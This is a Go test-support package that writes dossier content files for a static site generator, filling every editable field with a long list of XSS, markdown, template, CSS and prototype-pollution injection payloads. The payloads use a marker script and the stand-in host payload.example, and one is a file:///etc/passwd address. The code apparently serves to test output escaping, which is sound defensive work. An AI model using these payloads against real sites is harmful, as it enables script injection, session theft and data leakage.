// Package payloads writes dossiers in which every field that an editor, or the
// author of an article, can fill holds text that tries to become markup, script,
// style or a request to another host. A script of a payload that runs sets the
// global variable dossierPwned.
package payloads

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
)

// run is the script of the payloads.
const run = "window.dossierPwned=1"

// host is the host to which payloads try to send requests.
const host = "payload.example"

// Marks of the script and the host in the list of payloads.
var (
	scriptMark = regexp.MustCompile(`\bR\b`)
	hostMark   = regexp.MustCompile(`\bH\b`)
)

// Texts returns the payloads.
func Texts() []string {
	out := []string{
		// Elements that run a script when they are parsed, load or fail.
		`<script>R</script>`, `</script><script>R</script>`, `</style><script>R</script>`, `</title><script>R</script>`, `</textarea><script>R</script>`,
		`<ScRiPt >R</sCrIpT >`, `<script/x>R</script/y>`, `<script src=//H/a.js></script>`, `<<script>R//<</script>`, `<script><!--R//--></script>`,
		`--><script>R</script>`, `]]><script>R</script>`, `<noscript><p title="</noscript><script>R</script>">`, `<template><script>R</script></template>`,
		`<img src=x onerror=R>`, `<img/src='x'/onerror='R'>`, `<IMG SRC="x" ONERROR="R">`, `<img src=//H/p.png>`, `<img srcset="//H/p.png 2x">`,
		`<body onload=R>`, `<svg onload=R>`, `<svg><script>R</script></svg>`, `<svg><a xlink:href="javascript:R"><text>x</text></a></svg>`,
		`<svg><animate onbegin=R attributeName=x dur=1s>`, `<svg><use href="data:image/svg+xml,<svg onload=R>"/></svg>`, `<svg><foreignObject><body onload=R>`,
		`<math><mtext><table><mglyph><style><img src=x onerror=R></style></mglyph></table></mtext></math>`, `<video><source onerror=R></video>`,
		`<audio src=x onerror=R>`, `<details open ontoggle=R>x</details>`, `<input autofocus onfocus=R>`, `<select autofocus onfocus=R>`, `<marquee onstart=R>`,
		`<iframe src="javascript:R"></iframe>`, `<iframe srcdoc="<script>parent.R</script>"></iframe>`, `<object data="javascript:R"></object>`, `<embed src="//H/x.swf">`,
		`<link rel=stylesheet href=//H/a.css>`, `<base href=//H/>`, `<meta http-equiv=refresh content="0;url=//H/">`, `<meta http-equiv="refresh" content="0;url=javascript:R">`,
		`<form action=javascript:R><button>x</button></form>`, `<button formaction=javascript:R>x</button>`, `<isindex action=javascript:R>`,
		// Handlers and ends of attributes.
		`" onmouseover="R" x="`, `' onmouseover='R' x='`, "` onmouseover=`R`", `" autofocus onfocus=R "`, `x" style="background:url(//H/)`, `"><script>R</script>`,
		`'><script>R</script>`, `"/><svg/onload=R>`, `\"><script>R</script>`, `x onload=R `, "\" onload=R\n",
		// Addresses that run something.
		`javascript:R`, `JaVaScRiPt:R`, "java\tscript:R", "\x01javascript:R", ` javascript:R`, `javascript&colon;R`, `javascript&#58;R`, `&#106;avascript:R`,
		`javascript://H/%0aR`, `vbscript:msgbox(1)`, `data:text/html,<script>R</script>`, `data:text/html;base64,PHNjcmlwdD5SPC9zY3JpcHQ+`,
		`data:image/svg+xml,<svg onload=R>`, `//H/x`, `\\H\x`, `https://H@H/`, `file:///etc/passwd`, `view-source:javascript:R`, `blob:R`,
		// Markdown.
		`[x](javascript:R)`, `[x](JAVASCRIPT:R "t")`, `[x](data:text/html,<script>R</script>)`, `![x](javascript:R)`, `![x](//H/p.png)`, `![x](https://H/p.png)`,
		`<javascript:R>`, `[x]: javascript:R`, `[x](<javascript:R>)`, "[x](java\nscript:R)", `[x](javascript&#58;R)`, `[x](&#106;avascript:R)`, `[![x](y)](javascript:R)`,
		`[x](x.md){onclick=R}`, `[x](x.md){style="background:url(//H/)"}`, `[[x"onmouseover="R]]`, `[[<script>R</script>]]`, "```<script>R</script>\nR\n```", "``<script>R</script>``",
		`# x {onclick=R}`, `[^1]: <script>R</script>`, `> [!note]- <script>R</script>`, `==<script>R</script>==`, `<a href="javascript:R">x</a>`, `<u onclick=R>x</u>`,
		// Templates and other languages.
		`{{R}}`, `{{.}}`, `{{define "base"}}R{{end}}`, `{{template "x"}}`, `{{printf "%s" "<script>R</script>"}}`, `${R}`, `#{R}`, `<%= R %>`, `<?php R ?>`, `{%raw%}<script>R</script>`,
		`'-R-'`, `";R;//`, `\u003cscript\u003e;R;\u003c/script\u003e`, `\x3cscript\x3e;R;\x3c/script\x3e`, `*/R/*`, `\");R//`, "\u2028R\u2029", `${{R}}`, `</script`, `<!--<script>`, `{"__proto__":{"x":"R"}}`,
		`__proto__`, `constructor`, `hasOwnProperty`,
		// Style.
		`</style><style>@import "//H/a.css"`, `<style>*{background:url(//H/)}</style>`, `expression(R)`, `;background:url(//H/)`, `@import url(//H/a.css)`, `}*{background:url(//H/)`,
		// Entities and odd characters.
		`&lt;script&gt;R&lt;/script&gt;`, `&amp;lt;script>R`, `&#60;script&#62;R&#60;/script&#62;`, `&#x3c;img src=x onerror=R&#x3e;`, `&NewLine;javascript&colon;R`,
		"\ufeff<script>R</script>", "<scr\u200bipt>R</scr\u200bipt>", "\u202e<script>R</script>", "＜script＞R＜/script＞", "<\u017fcript>R</\u017fcript>", "ʺ onmouseover=R", "<img src=x onerror\u00a0=R>",
		"%3Cscript%3E;R;%3C/script%3E", "+ADw-script+AD4-R+ADw-/script+AD4-", "<script\n>R</script\n>", "<a\u0085href=javascript:R>x", "<img src=x onerror=R//",
	}
	for i := range out {
		out[i] = scriptMark.ReplaceAllLiteralString(out[i], run)
		out[i] = hostMark.ReplaceAllLiteralString(out[i], host)
	}
	return out
}

// Harmless returns as many texts without any markup.
func Harmless() []string {
	out := make([]string, len(Texts()))
	for i := range out {
		out[i] = fmt.Sprintf("Plain words %d", i)
	}
	return out
}

// Write writes a dossier into the folder dir in which each of the texts is in
// every field.
func Write(dir string, texts []string) error {
	files := map[string]string{
		"content/dossier.yaml": yaml("title", texts[0], "subtitle", texts[14]),
		"content/index.md":     strings.Join(texts, "\n\n"),
	}
	var review strings.Builder
	for i, p := range texts {
		n := fmt.Sprintf("n%d", i)
		name := fmt.Sprintf("%s of Bay %d", p, i)
		page := "https://gazette.example/#" + url.QueryEscape(p)
		files["content/people/"+n+".md"] = front(yaml("name", name, "aliases", p+" Okoye", "role", p, "description", p, "url", page)+
			"roles:\n  - role: "+quote(p)+"\n    from: 2020\n", p)
		files["content/organizations/o"+n+".md"] = front(yaml("name", "Board "+name, "aliases", "B "+p, "description", p, "url", page), p)
		files["content/places/p"+n+".md"] = front(yaml("name", "Place "+name, "description", p, "url", page), p)
		files["content/publishers/q"+n+".md"] = front(yaml("name", "Gazette "+name, "aliases", "G "+p, "description", p, "url", page, "reliability", "B"), p)
		files["content/pages/g"+n+".md"] = front(yaml("title", p), p+"\n\n## "+p+"\n\n- "+p+"\n\n| a | b |\n|---|---|\n| "+strings.ReplaceAll(p, "\n", " ")+" | c |\n")
		files["content/claims/c"+n+".md"] = front(yaml("proposition", "The quay "+p)+
			"statements:\n  - article: a"+n+"\n    quote: the quay would shut\n    by: "+n+"\n    stance: asserts\n"+
			"assessments:\n  - verdict: unproven\n    date: 2024-03-09\n    reason: "+quote(p)+"\n", p)
		files["content/events/e"+n+".md"] = front(yaml("summary", "A ship left "+p, "date", "2024-03-04", "people", n, "places", p)+
			"evidence:\n  - article: a"+n+"\n    quote: A ship left\n", p)
		body := fmt.Sprintf("Lena Okoye said on Monday that the quay would shut. A ship left on 4 March 2024.\n\n%s\n\n\"%s\" is what Rui Costa said.\n\n%s of Bay %d told reporters that \"%s\" was true.\n", p, p, p, i, p)
		files["content/articles/a"+n+".md"] = front(yaml("title", p, "publisher", "Gazette "+name, "author", p, "date", "2024-03-05", "url", page), body)
		files["content/articles/t"+n+".txt"] = front(yaml("title", p, "date", "2024-03-05"), body)
		files["content/articles/a"+n+".annotations.yaml"] = "- " + indent(yaml("quote", "Lena Okoye said", "note", p)) +
			"- " + indent(yaml("quote", "A ship left", "correction", p)) +
			"- " + indent(yaml("quote", "on 4 March 2024", "note", "[x]("+p+") "+p))
		// What is no address of a page is reported, and the file left out.
		files["content/people/u"+n+".md"] = front(yaml("name", "Person of Quay "+n, "url", p), "")
		files["content/articles/u"+n+".md"] = front(yaml("title", "An address", "date", "2024-03-05", "url", p), "Ivo Marek left.\n")
		if file := fileName(p); file != "" {
			files["content/articles/"+file+".md"] = front(yaml("title", "By name", "date", "2024-03-05"), "Ivo Marek left.\n")
			files["content/media/"+file+".txt"] = p
		}
		review.WriteString("- " + indent(yaml("accept", "person:lena-okoye-"+n, "what", p, "reason", p, "by", p)))
	}
	all := strings.Join(texts, " ")
	review.WriteString("- " + indent(yaml("accept", "person:rui-costa", "what", all, "reason", all, "by", all)))
	files["content/review.yaml"] = review.String()
	for name, text := range files {
		at := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(at), 0o777); err != nil {
			return err
		}
		if err := os.WriteFile(at, []byte(text), 0o666); err != nil {
			return err
		}
	}
	return nil
}

func front(keys, text string) string { return "---\n" + keys + "---\n" + text + "\n" }

// yaml returns lines of keys and quoted values.
func yaml(pairs ...string) string {
	var b strings.Builder
	for i := 0; i+1 < len(pairs); i += 2 {
		b.WriteString(pairs[i] + ": " + quote(pairs[i+1]) + "\n")
	}
	return b.String()
}

// quote returns a value in quotation marks. JSON strings are YAML.
func quote(s string) string {
	var b bytes.Buffer
	e := json.NewEncoder(&b)
	e.SetEscapeHTML(false)
	if err := e.Encode(s); err != nil {
		panic(err) // a string can be encoded
	}
	return strings.TrimSpace(b.String())
}

// indent makes lines of keys the entry of a list.
func indent(lines string) string {
	return strings.TrimSuffix(strings.ReplaceAll(lines, "\n", "\n  "), "  ")
}

// fileName returns a text as the name of a file, or "" if it cannot be one.
func fileName(p string) string {
	if strings.ContainsAny(p, "/\\\x00\x01\n\t") || strings.HasPrefix(p, ".") || len(p) > 100 {
		return ""
	}
	return p
}
